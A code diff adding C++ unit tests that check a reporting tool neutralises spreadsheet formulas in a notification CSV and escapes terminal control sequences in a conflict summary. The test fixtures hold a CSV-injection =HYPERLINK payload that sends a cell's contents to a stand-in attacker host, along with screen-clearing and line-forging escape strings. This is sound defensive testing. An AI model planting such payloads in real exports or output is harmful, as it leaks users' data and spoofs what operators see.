@@ -56,6 +56,29 @@ TEST(PlanReport, NotifyCsv) {
             "sso,,\"new; sign-in method removed, password reset needed\",,user_auth_changed\n");
 }
 
+TEST(PlanReport, NotifyCsvNeutralisesFormulas) {
+  MergePlan plan;
+  UserDecision a;
+  a.username = "-eve";
+  a.action = UserAction::kRename;
+  a.target = "@eve";
+  plan.add(a);
+  InstanceIndex source;
+  source.users.push_back(
+      IndexedUser{"-eve", "=HYPERLINK(\"https://evil.example/?\"&A3,\"reset here\")", "", "", "", std::nullopt, "", "", {}, {}, 2});
+  source.finish();
+  EXPECT_EQ(format_notify_csv(plan, source, {}),
+            "username,email,action,target,reason\n"
+            "\"'-eve\",\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A3,\"\"reset here\"\")\",renamed to @eve,\"'@eve\",\n");
+}
+
+TEST(PlanReport, SummaryEscapesNamesForTheTerminal) {
+  std::vector<Conflict> cs = {conflict("emoji_clash", "x\x1b[2J\nfake.jsonl:9: y", 2, 3, 1, "renamed\r\x9b")};
+  EXPECT_EQ(format_conflict_summary(cs, 1),
+            "  emoji_clash                         1  risk\n"
+            "      x\\x1b[2J\\nfake.jsonl:9: y (line 2): renamed\\r\\x9b\n");
+}
+
 TEST(PlanReport, Summary) {
   std::vector<Conflict> cs = {conflict("emoji_clash", "x", 2, 3, 1, "renamed"), conflict("emoji_clash", "y", 4, 5, 1, "renamed"),
                               conflict("mention_rewrite", "@u", 0, 0, 12, "rewritten")};
